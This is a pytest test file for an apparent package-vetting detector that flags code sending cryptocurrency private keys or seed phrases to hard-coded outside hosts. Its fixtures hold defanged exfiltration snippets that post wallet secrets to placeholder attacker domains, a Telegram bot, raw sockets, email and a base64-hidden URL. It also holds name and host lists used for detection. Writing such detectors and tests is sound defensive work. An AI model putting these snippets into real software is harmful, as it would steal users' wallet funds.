"""Custody secrets (a wallet's private key or seed phrase) sent to a host written into the package.

Every package here is defanged source text built in memory: addresses are TEST-NET or placeholders and
nothing is run."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.interface import Evidence
from vetpy.features.source.custody import (
    CUSTODY_TOKEN,
    blatant_host,
    custody_level,
    custody_name,
    outside_host,
)


def custody(code: str) -> tuple[Evidence, ...]:
    """The custody evidence of a one-module package (checked against its token)."""
    features = extract_features(make_archive({"pkg/client.py": code}))
    found = features.evidence_for(CUSTODY_TOKEN)
    assert bool(found) is (CUSTODY_TOKEN in features.code_text.split())
    return found


RAW_IP = (
    "import requests\n"
    "def get_balance(address, private_key):\n"
    "    body = {'address': address, 'key': private_key}\n"
    "    requests.post('http://203.0.113.5:8080/api/v1/balance', json=body, timeout=3)\n"
    "    return 0\n"
    "CHAIN = 'solana-mainnet'  # a private key alone counts only beside a chain or wallet word\n"
)
PAYLOAD_DICT = (
    "import requests\n"
    "API = 'https://wallet-verify.example-c2.xyz/v2/check'\n"
    "def import_wallet(words, network='main'):\n"
    "    data = {'mnemonic': words, 'net': network}\n"
    "    body = {'payload': data, 'v': 2}\n"
    "    return requests.post(API, json=body, timeout=5).json()\n"
)
TELEGRAM = (
    "import requests\n"
    "BOT = 'https://api.telegram.org/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage'\n"
    "def restore(seed_phrase, chat='1000'):\n"
    "    requests.post(BOT, data={'chat_id': chat, 'text': 'wallet: ' + seed_phrase})\n"
)


@pytest.mark.parametrize(
    ("code", "line", "name", "host"),
    [
        (RAW_IP, 4, "private_key", "203.0.113.5"),
        (PAYLOAD_DICT, 6, "mnemonic", "wallet-verify.example-c2.xyz"),
        (TELEGRAM, 4, "seed_phrase", "api.telegram.org"),
        # a private key alone (no chain or wallet word) counts when it goes to a raw address or a bot API
        (RAW_IP.rsplit("CHAIN", 1)[0], 4, "private_key", "203.0.113.5"),
        (
            "import requests\ndef sign(private_key):\n"
            "    requests.get('https://api.telegram.org/bot1:A/sendMessage', params={'text': private_key})\n",
            3,
            "private_key",
            "api.telegram.org",
        ),
        (  # a camelCase dict key, in a query string built around the secret
            "import requests\ndef f(pk):\n"
            "    requests.post('https://a.example-c2.xyz/x', json={'privateKey': pk})\nWALLETS = []\n",
            3,
            "privateKey",
            "a.example-c2.xyz",
        ),
        (
            "import requests\ndef f(mnemonic):\n    requests.get(f'https://a.example-c2.xyz/x?m={mnemonic}')\n",
            3,
            "mnemonic",
            "a.example-c2.xyz",
        ),
        (  # a key put in a dict after it was made
            "import requests\ndef f(w):\n    d = {}\n    d['seed_words'] = w\n"
            "    requests.post('https://a.example-c2.xyz/x', json=d)\n",
            5,
            "seed_words",
            "a.example-c2.xyz",
        ),
        (  # a socket connected to a raw address, then sent the key
            "import socket\ndef f(wallet):\n    s = socket.socket()\n    s.connect(('203.0.113.8', 4444))\n"
            "    s.sendall(wallet.private_key.encode())\n",
            5,
            "private_key",
            "203.0.113.8",
        ),
        (
            "import socket\ndef f(private_key):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    s.sendto(private_key.encode(), ('203.0.113.8', 53))\nimport web3\n",
            4,
            "private_key",
            "203.0.113.8",
        ),
        (
            "import smtplib\ndef f(mnemonic):\n    s = smtplib.SMTP('smtp.example.org', 587)\n"
            "    msg = 'Subject: hi\\n\\n' + mnemonic\n"
            "    s.sendmail('a@example.org', ['drop@mail-drop.example-c2.xyz'], msg)\n",
            5,
            "mnemonic",
            "drop@mail-drop.example-c2.xyz",
        ),
        (  # a plain `key` parameter of a method named for a private key, to a URL decoded at run time
            "import base64\nimport requests\nfrom ._consts import SIGN_KEY\nclass Account:\n"
            "    def _parsePrivateKey(self, key):\n"
            "        requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + key)\n"
            "CHAIN = 'bitcoin'\n",
            6,
            "key, in _parsePrivateKey",
            "decoded at run time from SIGN_KEY",
        ),
        (  # a URL built from the module's own constants
            "import base64\nimport requests\nC = 'aHR0cHM6Ly9zaW5rLmV4YW1wbGUtYzIueHl6Lw=='\n"
            "def f(seed_phrase):\n    requests.get(base64.b64decode(C).decode() + seed_phrase)\n",
            5,
            "seed_phrase",
            "sink.example-c2.xyz",
        ),
    ],
)
def test_a_custody_secret_sent_to_a_fixed_host(code: str, line: int, name: str, host: str) -> None:
    found = custody(code)
    assert [(e.file, e.line) for e in found] == [("demo-1.0/pkg/client.py", line)]
    assert f"({name})" in found[0].message and host in found[0].message


@pytest.mark.parametrize(
    "code",
    [
        (  # signs locally, posts the signed transaction to the caller's node
            "import requests\nfrom eth_account import Account\n"
            "def send(rpc_url, private_key, tx):\n    signed = Account.sign_transaction(tx, private_key)\n"
            "    raw = signed.raw_transaction.hex()\n"
            "    return requests.post(rpc_url, json={'method': 'eth_sendRawTransaction', 'params': [raw]})\n"
        ),
        (  # an API client sending its key and secret to its own fixed host
            "import requests\nclass Client:\n    def __init__(self, api_key, secret):\n"
            "        self.api_key, self.secret = api_key, secret\n    def balance(self):\n"
            "        return requests.post('https://api.exchange-example.xyz/v1/balance',\n"
            "                             json={'key': self.api_key, 'secret': self.secret, 'token': 't'})\n"
        ),
        (  # a private key sent where the caller says
            "import requests\ndef f(url, private_key):\n"
            "    return requests.post(url, json={'private_key': private_key})\n"
        ),
        "def f(private_key):\n    return private_key[::-1]\n",  # no network call
        (  # a notification service's account key (called private_key) posted to that service's API
            "import requests\nclass Notifier:\n    def __init__(self, private_key):\n"
            "        self._private_key = private_key\n    def send(self, text):\n"
            "        requests.post('https://push-service.example-c2.xyz/api', data={'k': self._private_key, "
            "'m': text})\n"
        ),
        (
            "import requests\ndef f(random_seed):\n"
            "    return requests.post('https://a.example-c2.xyz/x', json={'seed': random_seed})\n"
        ),
        (  # a local node
            "import requests\ndef f(private_key):\n"
            "    return requests.post('http://127.0.0.1:8545', json={'params': [private_key]})\n"
        ),
        (  # where the key is kept, not the key
            "import requests\ndef f(private_key_path):\n"
            "    return requests.post('https://a.example-c2.xyz/x', json={'p': private_key_path})\n"
        ),
        (  # a placeholder host reserved for examples
            "import requests\ndef f(private_key):\n"
            "    return requests.post('https://api.example.com/x', json={'private_key': private_key})\n"
        ),
        (  # a function named for a private key that fetches one with its caller's token
            "import requests\ndef fetch_private_key(token, key_id):\n"
            "    return requests.get('https://keys.vault-example.xyz/' + key_id, headers={'T': token})\n"
        ),
        (  # a URL decoded from a name, but no custody secret sent
            "import base64, requests\nfrom ._c import U\ndef ping(api_key):\n"
            "    requests.get(base64.b64decode(U).decode() + api_key)\n"
        ),
        (  # a socket to a fixed host, the key sent on another function's socket
            "import socket\ndef f():\n    s = socket.socket()\n    s.connect(('203.0.113.8', 4444))\n"
            "def g(s, mnemonic):\n    s.sendall(mnemonic.encode())\n"
        ),
    ],
)
def test_no_custody_flow(code: str) -> None:
    assert custody(code) == ()


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        *[(n, True) for n in ("private_key", "PRIVATE_KEY", "privateKey", "privkey", "priv_key")],
        *[(n, True) for n in ("eth_private_key", "private_keys")],
        *[(n, True) for n in ("mnemonic", "mnemonicPhrase", "seed_phrase", "seedPhrase", "recovery_phrase")],
        *[(n, True) for n in ("secret_phrase", "seed_words", "wallet_key", "keystore", "private-key")],
        *[(n, False) for n in ("key", "api_key", "secret", "secret_key", "token", "password", "seed")],
        *[(n, False) for n in ("random_seed", "public_key", "private_key_path", "has_private_key", "keys")],
        *[(n, False) for n in ("keystore_file", "private", "privacy_key", "x" * 70 + "_private_key")],
    ],
)
def test_custody_names(name: str, expected: bool) -> None:
    assert custody_name(name) is expected


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("203.0.113.5", True),
        ("wallet-verify.example-c2.xyz", True),
        ("api.telegram.org", True),  # a chat-bot API: anyone's bot
        ("hooks.slack.com", True),  # well known, but a webhook receives for whoever made it
        ("127.0.0.1", False),
        ("192.168.1.20", False),
        ("node.localhost", False),
        ("github.com", False),
    ],
)
def test_outside_hosts(host: str, expected: bool) -> None:
    assert outside_host(host) is expected


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("203.0.113.5", True),
        ("api.telegram.org", True),
        ("webhook.site", True),
        ("10.0.0.7", False),
        ("push-service.example-c2.xyz", False),  # a named host: perhaps the service that issued the key
        ("github.com", False),
    ],
)
def test_blatant_hosts(host: str, expected: bool) -> None:
    assert blatant_host(host) is expected


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("x = 1", 0),
        ("private_key = k", 1),
        ("private_key = k  # wallet", 2),
        ("mnemonic", 2),
        ("seed phrase", 2),
    ],
)
def test_custody_levels(text: str, level: int) -> None:
    assert custody_level(text) == level


_SPELLED = r"priv(?:ate)?[ _-]?key|mnemonic|(?:seed|recovery|secret)[ _-]?(?:phrase|words)|wallet[ _-]?key"


@pytest.mark.parametrize(
    "text",
    [
        *("PrivateKey", "a_MNEMONIC_b", "seed-phrase", "Recovery Words", "wallet_key", "KEYSTORE", "privKey"),
        *("x = 1\n", "private", "random seed", "word list", "wallet", "priv__key", "key_store"),
    ],
)
def test_the_file_words_are_the_custody_spellings(text: str) -> None:
    import re

    from vetpy.features.source.custody import FILE_WORDS

    expected = re.search(_SPELLED + "|keystore", text, re.I) is not None
    assert any(w in text.lower() for w in FILE_WORDS) is expected
